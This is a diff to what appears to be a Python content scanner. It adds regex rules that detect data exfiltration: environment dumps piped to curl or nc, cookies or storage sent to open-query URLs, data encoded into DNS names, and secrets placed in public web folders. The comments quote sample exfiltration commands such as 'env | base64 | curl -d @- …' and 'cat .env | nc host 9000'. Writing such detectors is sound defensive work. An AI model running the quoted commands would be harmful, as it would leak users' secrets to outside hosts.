@@ -769,6 +769,117 @@ EXFILTRATION += [
     ),
 ]
 
+# The environment a program runs with, piped or substituted into a command that sends data
+# to a host ("env | base64 | curl -d @- https://…", "curl --data \"$(printenv)\" …",
+# "cat .env | nc host 9000"): every secret in it leaves. A command that sends a file of the
+# project, or reads the environment only to print it, sends no secret.
+_ENV_DUMP = (
+    r"(?:(?<![\w./-])(?:env|printenv|export\s+-p|set)|/proc/self/environ|"
+    r"\bcat\s++[^|\n]{0,60}?(?<![\w.])\.env)"
+)
+_SENDER = r"(?:curl|wget|nc|ncat|netcat|http|https|socat)"
+_SENDS_DATA = (
+    r"(?:(?<!\S)(?:-d|-F|-T|--data(?:-binary|-raw|-urlencode)?|--form|--upload-file|"
+    r"--post-data|--post-file)(?![\w-])|@-|(?<!\S)(?:nc|ncat|netcat)\s)"
+)
+EXFILTRATION += [
+    Gated(
+        re.compile(
+            _ENV_DUMP
+            + r"[ \t]*+\|(?:[^|\n]{0,80}+\|){0,3}+[ \t]*+"
+            + _SENDER
+            + r"\b[^|\n]{0,200}?(?:"
+            + _SENDS_DATA
+            + r"|\s(?:[\w-]{1,63}+\.){1,10}+[a-z]{2,24}\s+\d{2,5}\b)"
+            r"|\b(?:curl|wget)\b[^\n]{0,200}?\$\((?:env|printenv)\)",
+            re.IGNORECASE,
+        ),
+        re.compile(r"\b(?:curl|wget|nc|ncat|netcat|socat)\b", re.IGNORECASE),
+    ),
+]
+
+# A credential store (a page's cookies or storage, a process's environment) named in the
+# same sentence as a web address whose query ends open, waiting for a value
+# ("https://metrics.example/p?c="): the secret is to be appended and fetched. An address
+# given as documentation has its query complete, or none.
+_BROWSER_STORE = (
+    r"(?:\bdocument\.cookie\b|\b(?:local|session)Storage\b|\bprocess\.env\b|"
+    r"\bos\.environ\b|\bwindow\.name\b)"
+)
+_OPEN_QUERY = r"https?://[^\s\"'<>)]{1,300}?[?&][\w.-]{1,30}=(?=[\s\"'<>)]|$)"
+_SAME_SENTENCE = r"(?:[^\n.;!?。]|\.(?=\S)){0,200}?"
+EXFILTRATION += [
+    Gated(
+        re.compile(
+            _BROWSER_STORE
+            + _SAME_SENTENCE
+            + _OPEN_QUERY
+            + r"|"
+            + _OPEN_QUERY
+            + _SAME_SENTENCE
+            + _BROWSER_STORE,
+            re.IGNORECASE,
+        ),
+        re.compile(_BROWSER_STORE, re.IGNORECASE),
+    ),
+]
+
+# Data encoded into a host name, the leftmost labels of a name looked up in DNS
+# ("<hex>.t.resolver.example", "{base32}.log.example.net"): each lookup carries it to the
+# name's server, past every proxy. A region, a tenant or a bucket there names a place.
+_ENCODED_LABEL = (
+    r"[<{]{1,2}\s*+(?:hex|hexed|base32|base64|b32|b64|encoded|payload|chunk|secret|token|"
+    r"creds?|data[_-]?hex|key[_-]?hex)[\w-]{0,20}+\s*+[>}]{1,2}\.(?:[a-z0-9-]{1,63}\.){1,5}+"
+    r"[a-z]{2,24}\b"
+)
+EXFILTRATION += [
+    Gated(re.compile(_ENCODED_LABEL, re.IGNORECASE), re.compile(r"[>}]\.[a-z0-9]", re.I)),
+]
+
+# Secrets or identity documents written into a place anyone may read: a web server's root
+# ("/var/www/html/keys.txt"), a bucket named public, a public_html folder. A site's pages,
+# assets or public keys published there are what it is for.
+_PUBLIC_PLACE = (
+    r"(?:/var/www/(?:html/)?|\bpublic_html/|\bhtdocs/|\b(?:s3|gs)://[\w.-]{0,60}?public[\w.-]{0,60}"
+    r"|\bpublic[-_ ]bucket\b)"
+)
+_PRIVATE_THINGS = (
+    r"(?:private[\s_-]?keys?|secret|password|token|credential|\.pem\b|id_rsa|\.key\b|"
+    r"(?:\b|_)keys?(?:\.txt|\.json)|passports?|passeport|pasaporte|passaporto|paspoort|"
+    r"\w{0,30}ausweis|identity\s+(?:card|document)|id[\s-]cards?|national\s+id)"
+)
+
+
+class PublicPlace:
+    """A public place (``_PUBLIC_PLACE``) with a secret or an identity document named in
+    its sentence (300 characters on either side, at most): found from the place, which is
+    rare, so linear on any text."""
+
+    PLACE = re.compile(_PUBLIC_PLACE, re.IGNORECASE)
+    SECRET = re.compile(_PRIVATE_THINGS, re.IGNORECASE)
+    WINDOW = 300
+    PLACES = 20
+
+    def __init__(self) -> None:
+        self.pattern = "public place"
+
+    def search(self, text: str) -> re.Match[str] | None:
+        for count, place in enumerate(self.PLACE.finditer(text)):
+            if count >= self.PLACES:
+                break
+            start = max(0, place.start() - self.WINDOW)
+            before = text[start : place.start()]
+            start += max(before.rfind(". "), before.rfind("\n")) + 1
+            end = place.end() + self.WINDOW
+            stops = (text.find(". ", place.end(), end), text.find("\n", place.end(), end))
+            stop = [i for i in stops if i != -1]
+            if self.SECRET.search(text, start, min(stop, default=end)):
+                return place
+        return None
+
+
+EXFILTRATION += [PublicPlace()]
+
 # Percent-encoded text ("send%20the%20card%20number%20to%20https%3A//…") is what a model
 # told to decode a note reads: the rules above are read in it as well.
 _ENCODED_RUN = re.compile(r"(?:[^\s%]{0,60}+%[0-9A-Fa-f]{2}){4,400}+[^\s%]{0,60}+")
